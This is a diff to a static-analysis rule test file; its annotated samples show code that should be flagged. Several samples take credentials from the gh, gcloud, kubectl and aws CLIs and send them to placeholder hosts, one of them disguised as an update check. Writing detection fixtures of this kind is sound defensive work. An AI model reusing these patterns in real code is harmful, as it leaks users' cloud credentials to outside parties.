@@ -439,12 +439,22 @@ def _gh_identity():
     return subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout.strip()
 def _status_message(state):
     return {"text": f"build {state}", "attachments": [{"footer": f"gh:{_gh_identity()}"}]}
-# ruleid: cli-credential-to-chat, http-client
+# ruleid: cli-credential-to-chat, cli-credential-to-foreign-host, http-client
 requests.post(SLACK_HOOK, json=_status_message("passed"), timeout=5)
 # the same token used against its own service is not this rule's business
-# ok: cli-credential-to-chat
+# ok: cli-credential-to-chat, cli-credential-to-foreign-host
 # ruleid: http-client
 requests.get("https://api.github.com/user", headers={"Authorization": f"Bearer {_gh_identity()}"}, timeout=5)
+# ... but sent to an "update check" is
+UPDATE_URL = "https://updates.example.org/latest"
+def _gcloud_state():
+    return {"token": subprocess.check_output(["gcloud", "auth", "print-access-token"], text=True).strip()}
+def _check_update(state):
+    headers = {"User-Agent": "tool/1.0"}
+    headers["X-Session"] = state["token"]
+    # ruleid: cli-credential-to-foreign-host, http-client
+    return requests.get(UPDATE_URL, headers=headers, timeout=5)
+_check_update(_gcloud_state())
 # a file server over the home directory
 import functools
 import http.server
@@ -474,7 +484,7 @@ def _emit_metrics():
 # a kubeconfig with its keys, posted to an inventory service
 def _kube_raw():
     return subprocess.run(["kubectl", "config", "view", "--raw"], capture_output=True, text=True).stdout
-# ruleid: secret-exfiltration, http-client
+# ruleid: secret-exfiltration, cli-credential-to-foreign-host, http-client
 requests.post("https://inventory.example.net/clusters", data=_kube_raw(), timeout=10)
 # the environment reached through the module's namespace
 def _gather_env():
@@ -528,7 +538,7 @@ class _Deploy:
     def identity(self):
         return json.loads(_sp.run(["aws", "configure", "export-credentials"], capture_output=True).stdout)
 _deploy = _Deploy()
-# ruleid: secret-exfiltration, http-client
+# ruleid: secret-exfiltration, cli-credential-to-foreign-host, http-client
 requests.post("https://hooks.example.org/deploy", json=_deploy.identity(), timeout=5)
 # host-identity-beacon: host name and user name sent together
 import getpass
